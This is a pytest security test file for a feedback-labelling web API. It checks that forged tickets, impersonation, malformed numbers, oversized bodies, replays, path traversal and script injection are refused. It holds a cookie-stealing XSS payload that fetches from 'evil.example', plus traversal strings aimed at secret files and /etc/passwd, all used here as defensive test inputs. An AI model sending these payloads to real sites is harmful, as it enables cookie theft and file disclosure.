"""A hostile client gets a clean refusal, and the store is as it was: one test for each of its ideas."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from starlette.applications import Starlette
from starlette.middleware import Middleware
from starlette.testclient import TestClient
from waiting_run import make_waiting_run

from prefrl.access import ACCESS, Role, grant_access
from prefrl.feedback import make_id
from prefrl.store.feedback_store import FeedbackStore
from ui.api import api_routes
from ui.desk import Desk
from ui.door import Door
from ui.gate import Gate
from ui.screen_values import LONGEST_SECONDS
from ui.sign_in import sign_in_routes
from ui.tickets import SECRET, Ticket, Tickets, load_secret
from ui.workplace import Workplace

RUN, PAIRS = "human", 8
SCRIPT = "<script>fetch('//evil.example/'+document.cookie)</script>"


@pytest.fixture(scope="module")
def waiting_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_waiting_run(tmp_path_factory.mktemp("made") / RUN, pairs=PAIRS)


def serve(runs: Path, *, exposed: bool = False) -> TestClient:
    """All of the server but Streamlit."""
    secret = load_secret(runs)
    door = Door(runs, secret, exposed=exposed)
    routes = [*sign_in_routes(door), *api_routes(Desk(Workplace(runs), Tickets(secret)))]
    app = Starlette(routes=routes, middleware=[Middleware(Gate, door=door)])
    return TestClient(app, follow_redirects=False, raise_server_exceptions=True)


@pytest.fixture
def client(runs: Path) -> TestClient:
    return serve(runs)


def come_in(runs: Path, name: str, role: Role = Role.LABELLER) -> TestClient:
    """A client that has signed in."""
    client = serve(runs, exposed=True)
    code = grant_access(runs, name, role)
    assert client.post("/prefrl/sign-in", data={"name": name, "code": code}).status_code == 303
    return client


def deck(client: TestClient, labeller: str = "mallory") -> list[dict[str, Any]]:
    pairs: list[dict[str, Any]] = client.get(
        "/prefrl/deck", params={"run": RUN, "labeller": labeller}
    ).json()["pairs"]
    return pairs


def entry(pair: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {"ticket": pair["ticket"], "revision": pair["revision"], "value": 1.0, "seconds": 2.0} | more


def post(client: TestClient, *entries: Any, labeller: str = "mallory") -> Any:
    return client.post("/prefrl/answers", json={"labeller": labeller, "answers": list(entries)})


def assert_refused(answer: Any, store: FeedbackStore) -> None:
    (receipt,) = answer.json()["receipts"]
    assert receipt["status"] == "refused"
    assert 0 < len(receipt["reason"]) < 300
    assert "Traceback" not in answer.text
    assert store.answers(RUN) == []


def test_a_pair_of_its_own_making_is_refused(client: TestClient, store: FeedbackStore) -> None:
    forger = Tickets(b"guessed" * 5)
    for query in (store.queries(RUN)[0].id, "query-of-my-own"):
        ticket = forger.sign(Ticket(RUN, query, "mallory", (0, 1)))
        assert_refused(post(client, {"ticket": ticket, "revision": 0, "value": 1.0}), store)


def test_a_pair_whose_sides_were_turned_after_signing_is_refused(
    client: TestClient, store: FeedbackStore
) -> None:
    content, signature = deck(client)[0]["ticket"].split(".")
    other = deck(client)[1]["ticket"].split(".")[0]
    assert_refused(post(client, {"ticket": f"{other}.{signature}", "revision": 0, "value": 1.0}), store)
    assert_refused(
        post(client, {"ticket": f"{content}.{signature[::-1]}", "revision": 0, "value": 1.0}), store
    )


def test_a_pair_that_somebody_else_keeps_is_refused(client: TestClient, store: FeedbackStore) -> None:
    of_ada = deck(client, "ada")[0]
    assert_refused(post(client, entry(of_ada)), store)
    refused = client.post("/prefrl/returns", json={"labeller": "mallory", "tickets": [of_ada["ticket"]]})
    assert refused.status_code == 403
    assert of_ada["query"] not in [pair["query"] for pair in deck(client)]  # still kept for ada
    assert post(client, entry(of_ada), labeller="ada").json()["receipts"][0]["status"] == "kept"


def test_who_has_signed_in_cannot_answer_in_another_name(runs: Path, store: FeedbackStore) -> None:
    ada, mallory = come_in(runs, "ada"), come_in(runs, "mallory")
    of_ada = deck(ada)[0]
    assert_refused(post(mallory, entry(of_ada), labeller="ada"), store)
    assert mallory.get("/prefrl/mine", params={"run": RUN, "labeller": "ada"}).json()["pairs"] == []
    post(mallory, entry(deck(mallory, "ada")[0]), labeller="ada")
    assert [answer.labeller for answer in store.answers(RUN)] == ["mallory"]


@pytest.mark.parametrize("seconds", [-1, LONGEST_SECONDS * 2, 1e308, "1", [], True, {"$gt": 0}])
def test_absurd_times_are_refused(client: TestClient, store: FeedbackStore, seconds: Any) -> None:
    assert_refused(post(client, entry(deck(client)[0], seconds=seconds)), store)


@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e999"])
def test_times_and_values_that_are_no_numbers_are_refused(
    client: TestClient, store: FeedbackStore, number: str
) -> None:
    pair = deck(client)[0]
    for field in ("value", "revision", "seconds"):
        raw = json.dumps({"labeller": "mallory", "answers": [entry(pair, **{field: "?"})]}).replace(
            '"?"', number
        )
        answer = client.post("/prefrl/answers", content=raw, headers={"Content-Type": "application/json"})
        assert_refused(answer, store)


def test_an_answer_of_ten_megabytes_is_refused_unread(client: TestClient, store: FeedbackStore) -> None:
    read = 0

    def endless() -> Iterator[bytes]:
        nonlocal read
        for _ in range(160):
            read += 65_536
            yield b"x" * 65_536

    answer = client.post("/prefrl/answers", content=endless(), headers={"Content-Type": "application/json"})
    assert (answer.status_code, set(answer.json())) == (413, {"error"})
    assert store.answers(RUN) == []
    big = post(client, entry(deck(client)[0], value="x" * 10_000_000))
    assert big.status_code == 413
    assert store.answers(RUN) == []


def test_a_request_sent_again_changes_nothing(client: TestClient, store: FeedbackStore) -> None:
    said = entry(deck(client)[0])
    assert [post(client, said).json()["receipts"][0]["known"] for _ in range(5)] == [
        False,
        True,
        True,
        True,
        True,
    ]
    twice = post(client, said, said).json()["receipts"]
    assert [one["known"] for one in twice] == [True, True]
    assert len(store.answers(RUN)) == 1
    (other,) = post(client, said | {"value": 0.0}).json()["receipts"]
    assert other["status"] == "refused"
    assert len(store.answers(RUN)) == 1


def test_an_old_answer_sent_again_does_not_undo_a_newer_one(client: TestClient, store: FeedbackStore) -> None:
    pair = deck(client)[0]
    post(client, entry(pair), entry(pair, value=0.5, revision=1))
    stands = store.current_answers(RUN)
    assert post(client, entry(pair)).json()["receipts"][0]["known"]
    assert store.current_answers(RUN) == stands


@pytest.mark.parametrize(
    "run",
    ["..", "../human", "human/../human", "/etc", "//human", "human%2f..", "human\\..", "human\x00", "."],
)
def test_no_run_is_reached_by_a_path(client: TestClient, store: FeedbackStore, run: str) -> None:
    for route in ("deck", "mine", "status"):
        answer = client.get(f"/prefrl/{route}", params={"run": run, "labeller": "mallory"})
        assert (answer.status_code, set(answer.json())) == (404, {"error"})
    assert client.get(f"/prefrl/clips/{'0' * 32}.webp", params={"run": run}).status_code == 404
    ticket = Tickets(load_secret(client.app.user_middleware[0].kwargs["door"].folder)).sign(  # type: ignore[attr-defined]
        Ticket(run, store.queries(RUN)[0].id, "mallory", (0, 1))
    )
    assert_refused(post(client, {"ticket": ticket, "revision": 0, "value": 1.0}), store)


@pytest.mark.parametrize(
    "path",
    [
        f"/prefrl/clips/..%2f..%2f{SECRET}",
        f"/prefrl/clips/%2e%2e%2f%2e%2e%2f{ACCESS}",
        "/prefrl/clips/..%2ffeedback.sqlite",
        "/prefrl/clips//etc/passwd",
        "/prefrl/clips/%00.webp",
        "/prefrl/assets/../api.py",
        "/prefrl/assets/..%2fapi.py",
        "/prefrl/assets/%2e%2e/%2e%2e/pyproject.toml",
        "/prefrl/assets/....//api.py",
        "/prefrl/assets//etc/passwd",
        "/prefrl/assets/",
    ],
)
def test_no_file_is_reached_by_a_path(client: TestClient, path: str) -> None:
    answer = client.get(path, params={"run": RUN})
    assert answer.status_code in (403, 404)
    for secret in ("def ", "root:", "SQLite", "[project]", "digest"):
        assert secret not in answer.text


def test_a_script_as_a_labellers_name_is_a_name(client: TestClient, store: FeedbackStore, runs: Path) -> None:
    answer = client.get("/prefrl/deck", params={"run": RUN, "labeller": SCRIPT})
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"
    post(client, entry(answer.json()["pairs"][0]), labeller=SCRIPT)
    assert [one.labeller for one in store.answers(RUN)] == [SCRIPT]
    refused = serve(runs, exposed=True).post("/prefrl/sign-in", data={"name": SCRIPT, "code": SCRIPT})
    assert "<script" not in refused.text


def test_a_script_as_a_note_or_an_answer_is_text(client: TestClient, store: FeedbackStore) -> None:
    pair = deck(client)[0]
    note = {"labeller": "mallory", "ticket": pair["ticket"], "note": SCRIPT}
    assert client.post("/prefrl/flags", json=note).status_code == 200
    assert [remark.content for remark in store.remarks(RUN)] == [SCRIPT]
    answer = post(client, entry(pair, value=SCRIPT))
    assert answer.headers["content-type"] == "application/json"
    assert answer.json()["receipts"][0]["status"] == "refused"
    broken = client.get("/prefrl/status", params={"run": SCRIPT})
    assert (broken.status_code, broken.headers["content-type"]) == (404, "application/json")


@pytest.mark.parametrize("note", ["\x00", "\ud800", "x" * 1001, None, 7, ["a"]])
def test_a_note_that_cannot_be_stored_is_refused(client: TestClient, store: FeedbackStore, note: Any) -> None:
    body = json.dumps({"labeller": "mallory", "ticket": deck(client)[0]["ticket"], "note": note})
    answer = client.post("/prefrl/flags", content=body, headers={"Content-Type": "application/json"})
    assert (answer.status_code, set(answer.json())) == (400, {"error"})
    assert store.remarks(RUN) == []


def test_an_answer_with_a_guessed_id_does_not_get_in(client: TestClient, store: FeedbackStore) -> None:
    query = store.queries(RUN)[0]
    guessed = {"id": make_id(RUN, 0, "answer", 0), "query_id": query.id, "value": 1.0, "labeller": "ada"}
    assert_refused(post(client, guessed), store)


def test_nothing_behind_the_gate_answers_who_has_not_signed_in(runs: Path, store: FeedbackStore) -> None:
    ticket = deck(come_in(runs, "ada"))[0]["ticket"]
    stranger = serve(runs, exposed=True)
    for path in ("deck", "mine", "status", f"clips/{'0' * 32}.webp", "assets/label.js"):
        answer = stranger.get(f"/prefrl/{path}", params={"run": RUN, "labeller": "ada"})
        assert (answer.status_code, set(answer.json())) == (401, {"error"})
    assert post(stranger, {"ticket": ticket, "revision": 0, "value": 1.0}, labeller="ada").status_code == 401
    assert store.answers(RUN) == []
